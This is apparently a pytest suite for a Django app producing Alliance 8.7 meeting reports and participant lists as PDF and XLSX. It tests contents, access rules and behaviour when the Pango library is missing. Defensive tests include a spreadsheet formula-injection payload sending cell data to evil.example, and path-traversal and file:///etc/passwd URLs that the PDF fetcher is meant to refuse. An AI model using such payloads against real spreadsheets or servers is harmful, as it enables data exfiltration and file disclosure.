"""The meeting report as a PDF, and Annex I (the list of participants) as XLSX and PDF, read
back as their readers' programs read them (pypdf, openpyxl)."""

import datetime
import http.server
import io
import subprocess
import sys
import threading

import openpyxl
import pytest
from django.urls import reverse
from django.utils.formats import date_format
from pypdf import PdfReader

from coordination.models import ActionItem, Attendance, Meeting
from coordination.reports import pdf
from tests import factories

pytestmark = pytest.mark.django_db

MISSING_PANGO = OSError("cannot load library 'libpango-1.0-0': No such file or directory")


def pdf_pages(response) -> list[str]:
    """Each page's text, its white space as single spaces (the PDF breaks lines where it
    must)."""
    assert response.status_code == 200, response.content[:500]
    assert response["Content-Type"] == "application/pdf"
    reader = PdfReader(io.BytesIO(response.content))
    return [" ".join(page.extract_text().split()) for page in reader.pages]


def link_targets(response) -> set[str]:
    reader = PdfReader(io.BytesIO(response.content))
    return {
        annotation.get_object()["/A"]["/URI"]
        for page in reader.pages
        for annotation in page.get("/Annots", [])
        if "/URI" in annotation.get_object().get("/A", {})
    }


def test_the_demo_report_reads_as_the_seed_report(client, demo):
    meeting = demo["meeting"]
    client.force_login(demo["member"])

    response = client.get(reverse("meeting_report_pdf", args=[meeting.pk]))

    assert response["Content-Disposition"] == 'attachment; filename="gcg-meeting-3-report.pdf"'
    pages = pdf_pages(response)
    text = " ".join(pages)
    first = pages[0]
    assert first.startswith("Alliance 8.7 JOINING FORCES GLOBALLY TO END FORCED LABOUR")
    assert "Report of the 3rd Meeting of the Alliance 8.7 Global Coordinating Group" in first
    assert "Geneva, 28 November 2018" in first
    assert "has not been held" not in text
    for title in (
        "Meeting report",
        "Objective of the meeting:",
        "Participants:",
        "Agenda:",
        "Decisions",
        "Action points for follow up",
        "Upcoming events",
        "Annexes",
        "Annex I – List of participants",
    ):
        assert title in text, title
    assert "Reassess the progress made by the Secretariat" in text
    assert "See attached list. (Annex I)" in text
    for organisation in ("International Labour Organization (ILO)", "(ITUC)", "(IOE)"):
        assert organisation in text
    assert "Mr Hyacinth Hermann Tandra" in text
    for agenda_item in (
        "I. Welcome and progress report from the Chair",
        "IV. Update on Pathfinder Countries and Pathfinder Country Note",
        "IX. Upcoming events and work plan for 2019",
    ):
        assert text.count(agenda_item) >= 2, agenda_item  # the agenda, then its minutes
    # the report's section X follows the agenda's items, under its “Action points for follow up”
    assert text.count("X. Action items") == 1
    minutes = text[text.index("Action points for follow up") :]
    assert (
        minutes.index("I. Welcome and progress report from the Chair")
        < minutes.index("IX. Upcoming events and work plan for 2019")
        < minutes.index("X. Action items")
    )
    assert "Minutes" not in text
    assert "the word “inaugural” has been removed" in text  # the minutes' Markdown, rendered
    assert "II. The Terms of Reference were adopted." in text  # the decision, with its item
    feedback = ActionItem.objects.get(meeting=meeting, order=1)
    assert "Provide feedback on the Pathfinder Country Guidance Note" in text
    assert "Owners: Global Coordinating Group" in text
    # the demo marks the Secretariat's sharing of the revised draft done as it loads
    # (illustratively): the clock has started, the date is fixed
    deadline = (
        f"two weeks after receipt of the revised draft (by {date_format(feedback.due_on, 'j F Y')})"
    )
    assert f"Deadline: {deadline}" in text
    assert "Deadline: 30 April 2019" in text  # a fixed deadline: the 4th meeting
    assert "Owners: Communications Action Group" in text
    assert "NGO Forum, Bangkok, Thailand – 3–5 December 2018" in text
    assert "Annex II: Report of the National Strategy Workshop in Madagascar" in text
    assert "United Nations University (UNU) Research Apologies" in pages[-1]  # Annex I's table
    for number, page in enumerate(pages, start=1):
        assert page.endswith(
            f"www.Alliance87.org @Alliance8_7 #Achieve87 Page {number} of {len(pages)}"
        ), page[-120:]
    assert {
        "https://www.alliance87.org",
        "https://twitter.com/Alliance8_7",
        "https://twitter.com/hashtag/Achieve87",
    } <= link_targets(response)
    assert PdfReader(io.BytesIO(response.content)).metadata.title == meeting.report_title


def test_a_relative_deadline_reads_as_the_meeting_worded_it_until_its_date_is_fixed(gcg):
    item = factories.ActionItemFactory(
        meeting__group=gcg,
        due_on=None,
        due_days_after_trigger=14,
        trigger="receipt of the revised draft",
    )
    assert item.deadline_display() == "two weeks after receipt of the revised draft"
    item.due_days_after_trigger = 10
    assert item.deadline_display() == "10 days after receipt of the revised draft"
    item.due_days_after_trigger = 1
    assert item.deadline_display() == "one day after receipt of the revised draft"
    item.due_on = datetime.date(2018, 12, 13)
    assert (
        item.deadline_display()
        == "one day after receipt of the revised draft (by 13 December 2018)"
    )


def test_the_report_of_a_meeting_not_held_says_so_and_is_no_report(client, demo):
    fourth = Meeting.objects.get(group__slug="gcg", number=4)
    client.force_login(demo["member"])

    for name in ("meeting_report_pdf", "participants_pdf"):
        text = " ".join(pdf_pages(client.get(reverse(name, args=[fourth.pk]))))
        assert "This meeting has not been held yet (March or April 2019, tbc)" in text
        assert "Report of" not in text
        assert "4th GCG meeting" in text


def test_the_report_of_a_cancelled_meeting_says_it_was_cancelled(client, gcg, gcg_member):
    meeting = factories.MeetingFactory(group=gcg, status=Meeting.Status.CANCELLED)
    client.force_login(gcg_member)
    text = " ".join(pdf_pages(client.get(reverse("meeting_report_pdf", args=[meeting.pk]))))
    assert "This meeting was cancelled: there is no report of it." in text
    assert "Report of" not in text


@pytest.mark.parametrize("name", ["meeting_report_pdf", "participants_pdf", "participants_xlsx"])
def test_only_the_meetings_group_and_the_secretariat_get_its_documents(client, demo, name):
    url = reverse(name, args=[demo["meeting"].pk])

    response = client.get(url)  # anonymous
    assert response.status_code == 302
    assert response["Location"] == f"{reverse('login')}?next={url}"

    client.force_login(demo["chair"])  # the Supply Chain AG's chair, not in the GCG
    assert client.get(url).status_code == 404

    for role in ("member", "secretariat"):
        client.force_login(demo[role])
        assert client.get(url).status_code == 200


def test_the_meeting_page_links_to_the_pdf_and_to_annex_i(client, demo):
    meeting = demo["meeting"]
    client.force_login(demo["member"])
    page = client.get(meeting.get_absolute_url()).content.decode()
    assert f'href="{reverse("meeting_report_pdf", args=[meeting.pk])}">Report (PDF)' in page
    assert f'href="{reverse("participants_pdf", args=[meeting.pk])}"' in page
    assert f'href="{reverse("participants_xlsx", args=[meeting.pk])}"' in page


def test_annex_i_as_xlsx_lists_the_participants_and_keeps_formulas_as_text(client, gcg, gcg_member):
    meeting = factories.MeetingFactory(group=gcg, number=7)
    formula = '=HYPERLINK("http://evil.example/?"&B2,"see")'
    Attendance.objects.create(
        meeting=meeting,
        person=None,
        organisation=factories.OrganisationFactory(name=formula, kind="research", acronym=""),
    )
    ministry = factories.OrganisationFactory(name="Ministry of Labour", kind="government")
    Attendance.objects.create(
        meeting=meeting,
        person=factories.PersonFactory(
            honorific="Ms", full_name="Ana Rakoto", organisation=ministry
        ),
        organisation=None,
        status=Attendance.Status.REMOTE,
    )
    client.force_login(gcg_member)

    response = client.get(reverse("participants_xlsx", args=[meeting.pk]))

    assert response.status_code == 200
    assert response["Content-Disposition"] == ('attachment; filename="gcg-meeting-7-annex-1.xlsx"')
    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    sheet = workbook["Annex I"]
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == ("Organisation", "Constituency", "Name", "Status")
    assert rows[1:] == [
        (formula, "Research", None, "Present"),
        ("Ministry of Labour", "Government", "Ms Ana Rakoto", "Remote"),
    ]
    cell = sheet["A2"]
    assert cell.data_type == "s" and cell.value == formula  # text, never a formula


def test_annex_i_as_pdf_lists_the_demo_participants(client, demo):
    meeting = demo["meeting"]
    client.force_login(demo["secretariat"])

    response = client.get(reverse("participants_pdf", args=[meeting.pk]))

    assert response["Content-Disposition"] == 'attachment; filename="gcg-meeting-3-annex-1.pdf"'
    pages = pdf_pages(response)
    assert len(pages) == 1
    text = pages[0]
    assert "Annex I – List of participants" in text
    assert "Report of the 3rd Meeting of the Alliance 8.7 Global Coordinating Group" in text
    assert "Organisation Constituency Name Status" in text
    assert "International Labour Organization (ILO) UN agency Present" in text
    assert "Mr Hyacinth Hermann Tandra Present" in text
    assert "United Nations University (UNU) Research Apologies" in text
    assert text.endswith("Page 1 of 1")


def missing(*args):
    raise MISSING_PANGO


def test_without_pango_the_page_says_why_and_the_pdfs_answer_503(client, demo, monkeypatch):
    monkeypatch.setattr(pdf, "_open_library", missing)
    monkeypatch.setattr(pdf, "_import_weasyprint", missing)
    meeting = demo["meeting"]
    client.force_login(demo["member"])

    page = client.get(meeting.get_absolute_url()).content.decode()
    assert "PDFs cannot be made on this server: the Pango text library" in page
    assert reverse("meeting_report_pdf", args=[meeting.pk]) not in page
    assert reverse("participants_pdf", args=[meeting.pk]) not in page
    assert reverse("participants_xlsx", args=[meeting.pk]) in page  # needs no Pango

    for name in ("meeting_report_pdf", "participants_pdf"):
        response = client.get(reverse(name, args=[meeting.pk]))
        assert response.status_code == 503
        assert "PDFs cannot be made on this server" in response.content.decode()
    assert client.get(reverse("participants_xlsx", args=[meeting.pk])).status_code == 200


def test_a_weasyprint_that_fails_to_load_answers_503_not_500(client, demo, monkeypatch):
    """The libraries open, but WeasyPrint does not load (another library missing, say)."""
    monkeypatch.setattr(pdf, "_import_weasyprint", missing)
    client.force_login(demo["member"])
    for name in ("meeting_report_pdf", "participants_pdf"):
        response = client.get(reverse(name, args=[demo["meeting"].pk]))
        assert response.status_code == 503
        assert "PDFs cannot be made on this server" in response.content.decode()


def test_the_site_runs_without_importing_weasyprint():
    """`make demo` on a machine without Pango: nothing imports WeasyPrint until a PDF is
    asked for."""
    code = (
        "import sys, django; django.setup();"
        "from django.urls import get_resolver; get_resolver().url_patterns;"
        "import coordination.views, coordination.report_views, coordination.demo;"
        "from coordination.reports.pdf import pdf_unavailable_reason as reason;"
        "assert reason() == '', reason();"
        "print('weasyprint' in sys.modules)"
    )
    result = subprocess.run(
        [sys.executable, "-c", code],
        capture_output=True,
        text=True,
        check=True,
        env={
            "DJANGO_SETTINGS_MODULE": "alliance87.settings",
            "SECRET_KEY": "x",
            "DEBUG": "0",
            "PATH": "",
        },
    )
    assert result.stdout.strip() == "False", result.stderr


@pytest.fixture
def listener():
    """A web server on this machine that records every request it gets."""
    requests = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):  # noqa: N802
            requests.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "text/css")
            self.end_headers()
            self.wfile.write(b"body { color: red }")

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}", requests
    server.shutdown()
    server.server_close()


def test_the_pdf_fetches_nothing_but_the_sites_static_files(listener, tmp_path):
    address, requests = listener
    secret = tmp_path / "secret.css"
    secret.write_text("body { color: red }")
    html = (
        f'<link rel="stylesheet" href="{address}/style.css">'
        f'<link rel="stylesheet" href="{secret.as_uri()}">'
        f'<p>Text<img src="{address}/pixel.png" alt=""></p>'
        f'<p class="x">More</p><style>@import url("{address}/imported.css");</style>'
    )
    content = pdf.pdf_from_html(html)
    assert content.startswith(b"%PDF-")
    assert requests == []


def test_the_fetcher_serves_static_files_and_refuses_anything_else():
    served = pdf.static_path(pdf.BASE_URL + "static/css/report-print.css")
    assert served is not None and served.read_text().startswith("/* The meeting report")
    for url in (
        "http://127.0.0.1/static/css/report-print.css",
        "https://report.invalid/media/annexes/2018/gcg3-annex-1.pdf",
        "https://report.invalid/static/../manage.py",
        "https://report.invalid/static/%2e%2e/manage.py",
        "https://report.invalid/static//etc/passwd",
        "https://report.invalid/static/css/missing.css",
        "https://report.invalid/static/css",
        "https://report.invalid/static/css/report-print.css?v=1",
        "file:///etc/passwd",
        "data:text/css,body{}",
    ):
        assert pdf.static_path(url) is None, url
        with pytest.raises(ValueError):
            pdf.static_fetcher(url)


@pytest.mark.parametrize(
    ("name", "queries"),
    [("meeting_report_pdf", 14), ("participants_pdf", 6), ("participants_xlsx", 6)],
)
def test_the_documents_take_a_fixed_number_of_queries(
    client, demo, name, queries, django_assert_max_num_queries
):
    """However many participants, agenda items and action points. Session, user, whether the
    user is the secretariat, their groups, the meeting; then the report reads attendance,
    agenda, decisions, action points and their owners (three), events and annexes, and Annex I
    reads attendance."""
    meeting = demo["meeting"]
    client.force_login(demo["member"])
    url = reverse(name, args=[meeting.pk])
    with django_assert_max_num_queries(queries):
        assert client.get(url).status_code == 200
    for index in range(20):
        Attendance.objects.create(meeting=meeting, person=factories.PersonFactory())
        item = factories.ActionItemFactory(meeting=meeting, order=10 + index)
        item.owner_people.add(factories.PersonFactory())
        factories.AgendaItemFactory(meeting=meeting, order=20 + index, minutes="**More.**")
        factories.DecisionFactory(meeting=meeting, text=f"Decision {index}.")
    with django_assert_max_num_queries(queries):
        assert client.get(url).status_code == 200
